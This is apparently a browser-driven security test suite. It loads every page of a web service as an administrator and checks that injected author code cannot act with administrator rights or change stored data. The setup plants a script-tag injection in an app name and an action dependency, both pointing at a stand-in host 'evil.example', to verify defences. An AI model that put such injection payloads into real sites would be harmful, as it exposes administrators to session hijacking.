/**
 * Opens every page of the service as a signed-in administrator, with malicious code in every field that authors control. No such code may
 * act as that administrator. The list of pages comes from all registered routes.
 */
import { expect } from "chai";
import { pino } from "pino";
import type { Browser, ConsoleMessage, Page } from "puppeteer";
import { createApi } from "../../src/api/server.js";
import { NO_TRACING } from "../../src/operations/watch/tracing.js";
import { type Network, startNetwork } from "../harness/network.js";
import { longTest, sampleOf } from "../harness/samples.js";
import { startTestService, type TestService } from "../harness/service.js";
import { until } from "../harness/until.js";
import { launchChromium } from "../web/chromium.js";
import { createAttackScript, REFUSED, REPORT } from "./attempts.js";

const FOREIGN_SCRIPT_URL = "https://evil.example/x.js";
const ON_PAGE_VIEW = [{ trigger: "analytics", where: { type: "analytics.pageView" } }, { trigger: "manual" }];

/** Pages that run authors' code. The pages in PAGES_WITHOUT_AUTHORS_CODE must not run it. */
const PAGES_WITH_AUTHORS_CODE = ["/apps/:id", "/apps/:id/viewer", "/v3/apps/:appId/actions/:id/compile?html"];
const PAGES_WITHOUT_AUTHORS_CODE = [
  "/graphql",
  "/studio",
  "/studio/setup",
  "/studio/reset",
  "/studio/invitation",
  "/studio/*",
  "/docs",
  "/docs/search",
  "/oauth/authorize",
  "/oauth/device",
  "/oauth/programs",
];

async function addresses(): Promise<string[]> {
  const unusedService = {} as never;
  const stubs = {
    resolvers: {},
    credentials: unusedService,
    sessions: unusedService,
    baseUrl: "http://127.0.0.1",
    publicUrl: null,
    runtimeUrl: null,
    measures: unusedService,
    tracing: NO_TRACING,
  };
  const api = await createApi({ ...stubs, log: pino({ level: "silent" }) } as never);
  await api.stop();
  return api.registeredRoutes.filter(({ method }) => method === "GET").flatMap(({ path }) => [path, `${path}?html`]);
}

/** @param runtimeHost host of the pages; null if the pages have the service's own host */
function testAttackedPages(runtimeHost: string | null): void {
  let service: TestService;
  let browser: Browser;
  let page: Page;
  let actionId: number;
  /** Number of requests for FOREIGN_SCRIPT_URL. The test answers each of them with the attack script. */
  let loadCount: number;
  /** Proxy that connects every host name of this machine to the service. */
  let network: Network;
  let runtimeUrl: string;
  const reports: Record<string, string>[] = [];
  // `npm test` uses only the service's own origin. test/api/runtime-url.test.ts tests what each of two origins serves.
  const test = runtimeHost === null ? it : longTest;

  const fill = (path: string) =>
    path.replace(/:(appId|id)\b/g, (_, name) =>
      String(name === "appId" || path.startsWith("/apps/") ? service.appId : actionId),
    );
  const attack = () =>
    createAttackScript({ origins: [...new Set([network.url, runtimeUrl])], appId: service.appId, actionId });

  /** Returns data that an attack could change, as text. Leaves out data that the pages change themselves. */
  const readAttackableState = async () => {
    const [found] = await service.db.query(
      `SELECT (SELECT json_agg(p ORDER BY id) FROM person p) AS people, (SELECT json_agg(a ORDER BY id) FROM app a) AS apps,
              (SELECT count(*) FROM app_editor) AS editors, (SELECT count(*) FROM setting) AS settings,
              (SELECT max(id) FROM audit_entry) AS trail, (SELECT json_agg(updated_at ORDER BY id) FROM action) AS actions,
              (SELECT count(*) FROM credential WHERE NOT page_session) AS credentials`,
    );
    return JSON.stringify(found);
  };

  before(async () => {
    network = await startNetwork();
    runtimeUrl = runtimeHost === null ? network.url : `http://${runtimeHost}:${new URL(network.url).port}`;
    const environment = {
      ROLES: "api,runner",
      PUBLIC_URL: network.url,
      ...(runtimeHost !== null && { RUNTIME_URL: runtimeUrl }),
    };
    [service, browser] = await Promise.all([startTestService(environment), launchChromium()]);
    network.setTarget(service.url);
    const actions = `/v3/apps/${service.appId}/actions`;
    const body = { name: "evil", code: "async function execute() {}", active: true, environment: "any" };
    const made = await service.rest("POST", actions, {
      body: { ...body, triggers: ON_PAGE_VIEW, dependencies: [FOREIGN_SCRIPT_URL] },
    });
    actionId = made.body.action.id;
    await service.rest("PUT", `${actions}/${actionId}`, {
      body: { code: `async function execute() { await ${attack()}; return 1; }` },
    });
    await service.rest("PUT", `/v1/apps/${service.appId}`, {
      body: { name: `<script src="${FOREIGN_SCRIPT_URL}"></script>` },
    });
    await service.rest("POST", `/v1/apps/${service.appId}/publish`);
    expect((await service.rest("POST", `${actions}/${actionId}/publish`)).http).to.equal(200);
  });
  beforeEach(async () => {
    const context = await browser.createBrowserContext();
    await context.setCookie({
      name: "auth_token",
      value: service.tokens.admin,
      domain: "127.0.0.1",
      sameSite: "Lax",
      httpOnly: true,
    });
    page = await context.newPage();
    loadCount = 0;
    reports.length = 0;
    page.on("console", (message: ConsoleMessage) => {
      const text = message.text();
      if (text.startsWith(REPORT)) reports.push(JSON.parse(text.slice(REPORT.length)));
    });
    await page.setRequestInterception(true);
    page.on("request", (request) => {
      if (request.url() !== FOREIGN_SCRIPT_URL) return void request.continue();
      loadCount += 1;
      void request.respond({ contentType: "text/javascript", body: attack() });
    });
  });
  afterEach(() => page.browserContext().close());
  after(async () => {
    await browser?.close();
    await service?.stop();
    await network?.stop();
  });

  test("only opens pages that are attacked here", async () => {
    const paths = await addresses();
    expect(paths.length).to.be.greaterThan(40);
    const pages: string[] = [];
    for (const address of paths) {
      const headers = { accept: "text/html", cookie: `auth_token=${service.tokens.admin}` };
      const reply = await fetch(network.url + fill(address), { headers, redirect: "manual" });
      await reply.body?.cancel();
      if (reply.headers.get("content-type")?.startsWith("text/html")) pages.push(address);
    }
    const known = [...PAGES_WITH_AUTHORS_CODE, ...PAGES_WITHOUT_AUTHORS_CODE];
    const here = runtimeHost === null ? known : PAGES_WITHOUT_AUTHORS_CODE;
    const unknown = pages.filter((path) => !known.includes(path) && !known.includes(path.replace("?html", "")));
    expect(unknown).to.deep.equal([]);
    expect(pages).to.include.members(here);
    if (runtimeHost !== null) for (const path of PAGES_WITH_AUTHORS_CODE) expect(pages).not.to.include(path);
  });

  for (const [index, address] of PAGES_WITH_AUTHORS_CODE.entries()) {
    test(`is not used by an author's code in ${address}, nor by scripts that it loads`, async () => {
      const before = await readAttackableState();
      await page.goto(network.url + fill(address));
      expect(await page.evaluate(`[new URL(document.URL).origin, origin]`)).to.deep.equal([runtimeUrl, "null"]);
      // The dependency and the action make the same attempts, so the test waits for both.
      await until(() => loadCount > 0 && reports.length > 0);
      if (address.endsWith("?html")) await page.evaluate(`Svc.App.V3.Actions.runWithResult("evil")`);
      await until(() => reports.length > 1);
      for (const report of reports) {
        for (const [attempt, outcome] of Object.entries(report)) expect(outcome, attempt).to.equal(REFUSED);
      }
      expect(await readAttackableState()).to.equal(before);
    });

    const studioTest = index === 0 ? test : longTest;
    studioTest(`is not taken to Studio together with code of ${address}`, async () => {
      await page.goto(network.url + fill(address));
      await until(() => reports.length > 0);
      const before = await readAttackableState();
      await Promise.all([page.waitForNavigation(), page.evaluate(`void (location.href = "${network.url}/studio")`)]);
      expect(await page.evaluate(`[typeof Svc, window.opener === null, window.length]`)).to.deep.equal([
        "undefined",
        true,
        0,
      ]);
      expect(await readAttackableState()).to.equal(before);
    });
  }

  // Studio's pages are one program, and OAuth's pages are another one. So `npm test` opens only a sample of the pages.
  for (const address of sampleOf(PAGES_WITHOUT_AUTHORS_CODE, 1, 6)) {
    test(`runs no author's code in ${address}`, async () => {
      await page.goto(`${network.url}${address}#/${service.appId}/actions/${actionId}`, { waitUntil: "networkidle0" });
      expect([loadCount, reports.length]).to.deep.equal([0, 0]);
    });
  }

  test("lets no page frame the others", async () => {
    for (const address of PAGES_WITHOUT_AUTHORS_CODE) {
      const reply = await fetch(network.url + address, { headers: { accept: "text/html" } });
      await reply.body?.cancel();
      expect(reply.headers.get("content-security-policy"), address).to.contain("frame-ancestors 'none'");
      expect(reply.headers.get("x-frame-options"), address).to.equal("DENY");
      expect(reply.headers.get("cross-origin-opener-policy"), address).to.equal("same-origin");
    }
  });
}

describe("the browser of a signed-in administrator", () => {
  describe("at pages on the origin of the service", () => testAttackedPages(null));
  describe("at pages on an origin of their own", () => {
    testAttackedPages("localhost");
  });
});
